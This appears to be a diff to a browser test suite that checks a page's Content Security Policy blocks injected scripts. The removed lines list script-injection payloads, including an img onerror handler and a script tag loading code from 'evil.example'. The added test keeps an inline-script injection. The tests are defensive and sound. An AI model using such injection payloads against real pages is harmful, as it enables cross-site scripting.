@@ -146,30 +146,15 @@ browserTest('with answers of the app it has its figures without a call', async (
   }
 });
 
-/** Each would run in the page if its policy allowed it. */
-const ATTACKS: readonly string[] = [
-  `var script = document.createElement('script'); script.textContent = 'window.broken = 1';
-    document.head.appendChild(script)`,
-  `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.broken = 1">')`,
-  `var script = document.createElement('script'); script.src = 'https://evil.example/x.js';
-    document.head.appendChild(script)`,
-];
-
-for (const attack of ATTACKS)
-  browserTest(`the policy in a single file refuses: ${attack.slice(0, 60)}`, async (context) => {
-    const page = await visit(context, STATISTICS);
-    await page.waitFor('.chart-svg');
-    assert.equal(refusals(page), []);
-    await page.evaluate(`void (function () { ${attack} })()`);
-    await until(() => refusals(page).length > 0, { report: () => page.console().join('\n') });
-    assert.is(await page.evaluate('window.broken'), undefined);
+browserTest('the policy in a single file refuses a script that is not of the file', async (context) => {
+  const page = await visit(context, STATISTICS);
+  await page.waitFor('.chart-svg');
+  assert.equal(refusals(page), []);
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.broken = 1';
+    document.head.appendChild(script);
   });
-
-browserTest('a late part is not inline: it comes from the network', async (context) => {
-  const late = addressOf(/^a\/sports-menu-\w+\.js$/);
-  const page = await visit(context, '/running-statistics');
-  await page.waitFor('text=View more');
-  await page.tap('.menu-button');
-  await page.waitFor('.menu-item');
-  assert.is(askedFor(page).filter((file) => file === late).length, 1);
+  await until(() => refusals(page).length > 0, { report: () => page.console().join('\n') });
+  assert.is(await page.evaluate('window.broken'), undefined);
 });
